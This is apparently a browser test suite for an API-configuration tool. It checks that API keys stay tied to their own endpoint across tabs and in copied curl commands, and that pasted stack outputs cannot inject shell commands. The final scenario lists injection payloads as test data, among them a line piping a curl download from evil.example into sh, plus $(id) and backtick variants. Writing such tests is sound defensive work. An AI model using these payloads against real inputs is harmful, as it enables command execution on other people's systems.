// The key of one API goes to no other API: not in another tab, not after another URL, and not in a command.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, beforeEach } from 'node:test';

import { button, eventually, field, goTo, loadSample, region, result, saveButton } from '../lib/form.mjs';
import { keptCalls } from '../lib/history.mjs';
import { scenario, useConsole } from '../lib/scenario.mjs';
import { watch } from '../lib/browser.mjs';

const KEY = 'the-key-of-a';
const CORS = {
  'Access-Control-Allow-Origin': '*',
  'Access-Control-Allow-Headers': 'content-type,x-api-key',
  'Content-Type': 'application/json',
};

let a;
let b;

async function server() {
  const one = { keys: [] };
  one.server = createServer(async (request, response) => {
    for await (const _ of request);
    if (request.method === 'OPTIONS') return response.writeHead(204, CORS).end();
    one.keys.push(request.headers['x-api-key']);
    response.writeHead(200, CORS).end('{}');
  });
  await new Promise((resolve) => one.server.listen(0, '127.0.0.1', resolve));
  one.url = `http://127.0.0.1:${one.server.address().port}/prod/`;
  return one;
}

before(async () => {
  [a, b] = [await server(), await server()];
});

after(() => {
  for (const one of [a, b]) {
    one?.server.close();
    one?.server.closeAllConnections();
  }
});

beforeEach(() => {
  for (const one of [a, b]) one.keys.length = 0;
});

useConsole();

const allow = () => [a.url, b.url];
const url = (page) => field(page, 'API URL');
const key = (page) => field(page, 'API key');

async function enter(page, base) {
  await url(page).fill(base);
  await url(page).blur();
}

async function start(page) {
  await goTo(page, 'API');
  await page.getByRole('radio', { name: 'Deployed' }).check();
  await field(page, 'Table name').fill('resume-Table-1');
}

/** Has a page that is loaded from now on receive other tabs' changes of the storage late: not while `window.isDeaf` holds. */
function delayStorage(page) {
  return page.addInitScript(() => {
    const held = [];
    window.addEventListener('storage', (event) => {
      if (!window.isDeaf) return;
      event.stopImmediatePropagation();
      held.push(event);
    });
    window.hear = () => {
      window.isDeaf = false;
      for (const event of held.splice(0)) window.dispatchEvent(new StorageEvent('storage', event));
    };
  });
}

scenario('a key edited in one tab is not sent to an API that another tab chose', { allow }, async (page, { context, url: own, problems }) => {
  await delayStorage(page);
  await page.reload();
  await loadSample(page);
  await start(page);
  await enter(page, a.url);
  await key(page).fill(KEY);
  await page.getByRole('checkbox', { name: 'Remember the key on this device' }).check();

  const second = await context.newPage();
  const theirs = watch(second, own, allow());
  await second.goto(`${own}#/api`);
  await eventually(async () => assert.equal(await key(second).inputValue(), KEY));
  await page.evaluate(() => { window.isDeaf = true; });
  await enter(second, b.url);
  assert.equal(await key(second).inputValue(), '');

  // The first tab edits its key before it receives the other URL.
  await key(page).fill(`${KEY}2`);
  const third = await context.newPage();
  const thirds = watch(third, own, allow());
  await third.goto(`${own}#/api`);
  await url(third).waitFor();
  await saveButton(third).click();
  await eventually(async () => assert.match(await result(third), /Saved as/));
  assert.deepEqual(b.keys, [undefined]);
  assert.deepEqual(a.keys, []);

  await page.evaluate(() => window.hear());
  // The first tab follows, without its key; back at its own API the key is available again.
  await eventually(async () => assert.equal(await url(page).inputValue(), b.url));
  assert.equal(await key(page).inputValue(), '');
  await saveButton(page).click();
  await eventually(() => assert.deepEqual(b.keys, [undefined, undefined]));
  await enter(page, a.url);
  assert.equal(await key(page).inputValue(), `${KEY}2`);
  await eventually(async () => assert.equal(await url(second).inputValue(), a.url));
  await saveButton(second).click();
  await eventually(() => assert.deepEqual(a.keys, [`${KEY}2`]));
  problems.push(...theirs, ...thirds);
});

scenario('a tab follows the target, the URL and the table of another', { allow }, async (page, { context, url: own, problems }) => {
  await goTo(page, 'API');
  const second = await context.newPage();
  const theirs = watch(second, own, allow());
  await second.goto(`${own}#/api`);
  await start(second);
  await enter(second, a.url);
  await eventually(async () => assert.equal(await url(page).inputValue(), a.url));
  assert.equal(await field(page, 'Table name').inputValue(), 'resume-Table-1');
  await page.getByText(/Another tab changed the connection/).waitFor();
  await second.getByRole('radio', { name: 'Local' }).check();
  await eventually(async () => assert.equal(await page.getByRole('radio', { name: 'Local' }).isChecked(), true));
  problems.push(...theirs);
});

scenario('a command of an earlier call has the key of its own API', { allow }, async (page, { context }) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await loadSample(page);
  await start(page);
  await enter(page, a.url);
  await key(page).fill(KEY);
  await saveButton(page).click();
  await eventually(() => assert.deepEqual(a.keys, [KEY]));
  await enter(page, b.url);
  await key(page).fill('the-key-of-b');
  const call = region(page, 'History');
  await button(call, 'Copy as curl with the key').click();
  await eventually(async () => {
    const command = await page.evaluate(() => navigator.clipboard.readText());
    assert.ok(command.includes(a.url) && command.includes(KEY), command);
    assert.doesNotMatch(command, /the-key-of-b/);
  });
  // The call is kept, the key is not.
  const kept = await eventually(async () => {
    const calls = JSON.stringify(await keptCalls(page));
    assert.match(calls, /PutItem|POST/);
    return calls;
  });
  assert.ok(!kept.includes(KEY));
  await page.reload();
  await call.getByText('#1', { exact: true }).waitFor();
  assert.equal(await button(call, 'Copy as curl with the key').count(), 0);
});

scenario('a pasted value does not become a command', {}, async (page) => {
  await goTo(page, 'API');
  await page.getByRole('radio', { name: 'Deployed' }).check();
  const base = 'https://abc.execute-api.eu-west-1.amazonaws.com/prod/';
  for (const id of ['x; curl https://evil.example | sh', '$(id)', '`id`', "'; id; '", 'a\nid', 'a'.repeat(65)]) {
    const outputs = { APIUrl: base, TableName: 'resumes', ApiKeyId: id };
    await field(page, 'Stack outputs').fill(JSON.stringify(outputs));
    await eventually(async () => assert.match(await result(page), /ApiKeyId was ignored/, id));
    assert.equal(await page.getByText('get-api-key').count(), 0, id);
  }
  await field(page, 'Stack outputs').fill(JSON.stringify({ APIUrl: base, TableName: 'resumes', ApiKeyId: 'a1B2' }));
  await page.getByText('get-api-key --api-key a1B2 --include-value').waitFor();
});
